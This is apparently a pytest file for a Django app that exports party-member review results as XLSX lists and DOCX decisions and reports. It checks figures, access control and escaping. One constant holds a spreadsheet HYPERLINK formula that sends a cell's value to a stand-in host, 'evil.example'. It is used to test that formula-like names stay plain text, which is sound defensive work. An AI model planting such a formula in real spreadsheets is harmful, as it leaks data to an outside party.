"""The results' files through HTTP: the XLSX lists offices send upwards, the decision and the report."""

from __future__ import annotations

import io
from typing import Any

import docx
import openpyxl

from quantriet.orgs.models import Member, Unit
from tests.reviews.fixtures_results import BINH_REASON, Results, results

__all__ = ["results"]  # the fixture, imported for pytest

FORMULA = '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ")'


def _get(r: Results, tail: str, user: Any = None) -> Any:
    client = r.w.client_for(user or r.w.alice)
    return client.get(f"/reviews/results/periods/{r.year.pk}/{tail}")


def _sheets(content: bytes) -> dict[str, list[list[Any]]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in book}


def _text(content: bytes) -> str:
    paper = docx.Document(io.BytesIO(content))
    parts = [p.text for p in paper.paragraphs]
    for table in paper.tables:
        for row in table.rows:
            parts.append(" | ".join(cell.text for cell in row.cells))
    return "\n".join(parts)


def test_the_workbook_holds_the_summary_and_every_members_level(results: Results) -> None:
    w = results.w
    response = _get(results, f"list.xlsx?unit={w.xa.pk}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheets = _sheets(response.content)
    summary = sheets["Tổng hợp"]
    members_total = next(row for row in summary if row[0] == "Tổng" and row[1] == "Đảng viên")
    # Total 4: HTXS 2, HTT 1, HT 0, KHT 0, not rated 0, pending 1; then the shares.
    assert members_total[2:9] == [4, 2, 1, 0, 0, 0, 1]
    assert members_total[9] == 50.0
    listed = {(row[1], row[4]): row for row in sheets["Đảng viên"][1:]}
    assert listed[("Trần Thị Bình", None)][7] == "Hoàn thành xuất sắc nhiệm vụ"
    assert BINH_REASON in listed[("Trần Thị Bình", None)][9]
    assert listed[("Nguyễn Văn An", "Phó Bí thư")][7] == "Hoàn thành xuất sắc nhiệm vụ"
    assert listed[("Đặng Văn Dũng", None)][7] is None  # pending: no level yet
    assert "Lê Hoàng Cường" not in str(sheets)  # XB is not under XA
    units = [row[1] for row in sheets["Tổ chức đảng"][1:]]
    assert len(units) == 3 and any("Chi bộ thôn 2" in str(u) for u in units)


def test_names_that_look_like_formulas_stay_text_in_the_workbook(results: Results) -> None:
    w = results.w
    Member.objects.filter(pk=w.m_xa2.pk).update(full_name=FORMULA)
    Unit.objects.filter(pk=w.xa2.pk).update(name=FORMULA + "\x01")
    response = _get(results, f"list.xlsx?unit={w.xa.pk}")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    written = [cell for cell in cells if str(cell.value).startswith("=")]
    assert written and all(cell.data_type == "s" for cell in written)
    assert any(cell.value == FORMULA for cell in written)


def test_the_decision_recognises_the_decided_results_with_its_list(results: Results) -> None:
    w = results.w
    response = _get(results, f"decision.docx?unit={w.xa.pk}&number=12&place=An%20Hòa")
    assert response.status_code == 200
    text = _text(response.content)
    assert "QUYẾT ĐỊNH" in text and "Số 12-QĐ/ĐU" in text
    assert (
        "về việc công nhận kết quả đánh giá, xếp loại chất lượng tổ chức đảng và đảng viên năm 2025" in text
    )
    assert "Quy định số 366-QĐ/TW, ngày 30/8/2025" in text
    assert "An Hòa, ngày" in text and "DANH SÁCH" in text
    assert "Trần Thị Bình | " in text and "Hoàn thành xuất sắc nhiệm vụ" in text
    assert "Đặng Văn Dũng" not in text  # undecided: not in a decision
    assert "Nơi nhận:" in text


def test_the_report_gives_the_figures_by_unit(results: Results) -> None:
    w = results.w
    text = _text(_get(results, "report.docx").content)
    assert "BÁO CÁO" in text
    assert "Kết quả kiểm điểm, đánh giá, xếp loại chất lượng tổ chức đảng và đảng viên năm 2025" in text
    assert "Tổng số đảng viên được đánh giá: 5" in text
    assert "Đảng bộ xã An Hòa | 4 | 2 | 1 | 0 | 0 | 0 | 1" in text
    assert "Trần Thị Bình" not in text  # a report names no member
    assert w.xa.name in text


def test_papers_hold_names_with_characters_a_file_cannot(results: Results) -> None:
    w = results.w
    Member.objects.filter(pk=w.m_xa2.pk).update(full_name="Trần\x0bThị Bình <b>")
    response = _get(results, f"decision.docx?unit={w.xa2.pk}")
    assert response.status_code == 200 and "TrầnThị Bình &lt;b&gt;" not in _text(response.content)
    assert "TrầnThị Bình <b>" in _text(response.content)


def test_files_out_of_reach_answer_404(results: Results) -> None:
    w = results.w
    for tail in ("list.xlsx", "decision.docx", "report.docx"):
        assert _get(results, f"{tail}?unit={w.xa.pk}", w.charlie).status_code == 404
        assert _get(results, f"{tail}?unit=abc", w.alice).status_code == 404


def test_a_decision_above_the_grassroots_recognises_organisations_only(results: Results) -> None:
    text = _text(_get(results, "decision.docx").content)  # the province: it rates the communes
    assert "xếp loại chất lượng tổ chức đảng năm 2025" in text
    assert "đối với 4 tổ chức đảng (có danh sách kèm theo)" in text
    assert "Trần Thị Bình" not in text and "II. ĐẢNG VIÊN" not in text
    assert "Đảng bộ xã An Hòa | Hoàn thành xuất sắc nhiệm vụ" in text
